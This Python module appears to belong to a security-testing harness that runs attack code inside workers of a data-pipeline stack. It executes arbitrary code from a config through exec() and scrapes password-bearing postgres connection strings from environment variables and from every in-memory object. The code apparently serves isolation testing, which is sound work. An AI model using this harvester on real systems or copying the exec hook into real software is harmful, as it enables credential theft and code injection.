"""Operators that run the code of an attack; workers of the attacked stack load this module.

``attack_exec`` runs the code of its config. The code reports its findings by ``report``: one line of JSON in the
attempt's log, which the attack reads there.
"""

from __future__ import annotations

import gc
import json
import os
import re
import sys
from typing import Any

from tracelake.operators import Context, operator

MARK = "ATTACK-REPORT "
_DSN = re.compile(r"postgres(?:ql)?://[^\s'\"]+")


@operator("attack_exec")
def attack_exec(ctx: Context) -> None:
    exec(ctx.config["code"], {"ctx": ctx, "report": report, "logins": logins, "attempt": attempt})


def report(**found: Any) -> None:
    sys.stdout.write(f"{MARK}{json.dumps(found, default=repr)}\n")
    sys.stdout.flush()


def attempt(name: str, act: Any) -> Any:
    """Reports what became of it: the value, or the refusal."""
    try:
        value = act()
    except Exception as error:
        report(name=name, refused=f"{type(error).__name__}: {error}"[:300])
        return None
    report(name=name, reached=repr(value)[:300])
    return value


def logins() -> list[str]:
    """Every address with a password that can be found in this process, wherever it is kept."""
    found: set[str] = set()
    for text in (*os.environ.values(), *_strings()):
        found.update(match for match in _DSN.findall(text) if "@" in match)
    return sorted(found)


def _strings() -> set[str]:
    """What the collector's objects refer to: fields, slots, locals, values of dictionaries."""
    kept: set[str] = set()
    for each in gc.get_objects():
        try:
            kept.update(text for text in gc.get_referents(each) if type(text) is str and "postgres" in text)
        except Exception:
            continue
    return kept
